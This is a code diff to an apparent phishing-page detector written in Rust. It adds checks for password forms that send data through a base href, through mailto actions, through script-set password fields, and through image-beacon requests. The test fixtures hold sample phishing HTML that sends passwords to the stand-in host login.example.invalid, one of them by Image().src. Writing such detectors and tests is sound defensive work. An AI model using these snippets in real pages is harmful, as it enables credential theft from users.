@@ -61,6 +61,7 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
     let source = text::to_utf8(data);
     let mut password = None;
     let mut target = None;
+    let (mut base, mut by_base) = (None, false);
     for tag in html::tags(&source, TAGS) {
         match tag.name.as_ref() {
             "input" if is_password(&tag) => {
@@ -72,10 +73,21 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
                 } else {
                     "formaction"
                 };
-                if let Some(address) = tag.attribute(name).and_then(|value| outside(look, &value)) {
+                let action = tag.attribute(name);
+                let action = action.as_deref();
+                if let Some(address) = action.and_then(|value| outside(look, value)) {
                     findings.ioc(IocType::Url, &address);
                     target.get_or_insert(address);
+                } else if let Some(address) = action.filter(|value| is_mail(value)) {
+                    target.get_or_insert(plain(address));
                 }
+                by_base |= tag.name == "form" && action.is_none_or(|value| !value.starts_with('#'));
+            }
+            // Where every address of the page that names no host leads (HTML Standard, 4.2.3).
+            "base" => {
+                let address = tag.attribute("href");
+                let address = address.and_then(|value| outside(look, &value));
+                base = base.or(address);
             }
             "meta" => {
                 if let Some(address) = html::refresh(&tag).and_then(|value| outside(look, &value)) {
@@ -91,18 +103,26 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
             _ => {}
         }
     }
-    let sent = scripted(look, &source);
+    if let Some(base) = base.filter(|_| by_base) {
+        findings.ioc(IocType::Url, &base);
+        target.get_or_insert(base);
+    }
+    let mut sent = scripted(look, &source);
+    if password.is_none() {
+        password = password_by_script(&source);
+    }
+    let shown = asked_for(look, &source);
+    let posts = SENDS.iter().any(|word| source.contains(word)) || !shown.is_empty();
+    sent.extend(shown);
     for address in &sent {
         findings.ioc(IocType::Url, address);
     }
     let Some(at) = password else {
         return;
     };
-    let mut sent = sent;
     if target.is_none() && sent.is_empty() {
         sent = in_scripts(look);
     }
-    let posts = SENDS.iter().any(|word| source.contains(word));
     let Some(target) = target.or_else(|| sent.into_iter().next().filter(|_| posts)) else {
         return;
     };
@@ -137,6 +157,48 @@ fn is_password(tag: &Tag<'_>) -> bool {
         .iter()
         .any(|name| value(name).contains("passw"));
     named && matches!(kind.as_str(), "" | "text") && value("style").contains("text-security")
+}
+
+/// Whether a form is sent by mail.
+fn is_mail(action: &str) -> bool {
+    let scheme = action.trim_start().get(..7);
+    scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case("mailto:"))
+}
+
+/// Where a script makes a field one for passwords.
+fn password_by_script(source: &str) -> Option<usize> {
+    const MADE: &[&str] = &[
+        "setAttribute(\"type\",\"password\")",
+        "setAttribute('type','password')",
+        "setAttribute(\"type\", \"password\")",
+        "setAttribute('type', 'password')",
+        ".type=\"password\"",
+        ".type='password'",
+        ".type = \"password\"",
+        ".type = 'password'",
+    ];
+    MADE.iter().find_map(|made| source.find(made))
+}
+
+/// Addresses that scripts ask for as a picture, with something behind them.
+fn asked_for(look: &Look<'_>, source: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for word in [".src=", ".src ="] {
+        for (at, _) in source.match_indices(word).take(32) {
+            let rest = source
+                .get(at.saturating_add(word.len())..)
+                .unwrap_or_default();
+            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
+            let near = near.trim_start();
+            let literal = near
+                .starts_with(['"', '\'', '`'])
+                .then(|| quoted(near).next())
+                .flatten();
+            let address = literal.filter(|text| text.ends_with('=') || text.contains("=${"));
+            found.extend(address.and_then(|text| outside(look, text)));
+        }
+    }
+    found
 }
 
 /// An address on the web, in the form in which it is fetched.
@@ -207,6 +269,9 @@ mod tests {
             "<form><input type='PASSWORD'></form><script>fetch('https://login.example.invalid/', {method: 'POST'})</script>",
             "<script>document.write(\"<form action=\\\"//login.example.invalid/\\\"><input type=\\\"password\\\">\")</script>",
             "<script>x.open('POST', 'https://login.example.invalid/'); new XMLHttpRequest()</script><input type=password>",
+            "<base href=\"https://login.example.invalid/\"><form action=p.php method=post><input type=password></form>",
+            "<input type=password id=p><script>new Image().src = 'https://login.example.invalid/?p=' + p.value</script>",
+            "<form action='https://login.example.invalid/'><input id=q></form><script>q.setAttribute('type', 'password')</script>",
         ] {
             assert_eq!(found(page), (1, 1), "{page}");
         }
@@ -215,9 +280,22 @@ mod tests {
             "<form action=\"https://www.example.com/search\"><input name=q></form>",
             "<p>Your password has been changed: <a href=\"https://www.example.com/\">see</a></p>",
             "<form><input type=password></form>",
+            "<base href=\"https://www.example.com/\"><form action=search><input name=q></form>",
+            "<base href=\"/app/\"><form action=p><input type=password></form>",
+            "<input type=password><script>logo.src = 'https://www.example.com/logo.png'</script>",
         ] {
             assert_eq!(found(page).0, 0, "{page}");
         }
+    }
+
+    #[test]
+    fn a_form_that_is_sent_by_mail_is_found() {
+        let page = "<form action=\"mailto:a@example.invalid\"><input type=password></form>";
+        assert_eq!(found(page).0, 1);
+        assert_eq!(
+            found("<form action=\"mailto:a@example.invalid\"><input name=q></form>").0,
+            0
+        );
     }
 
     #[test]
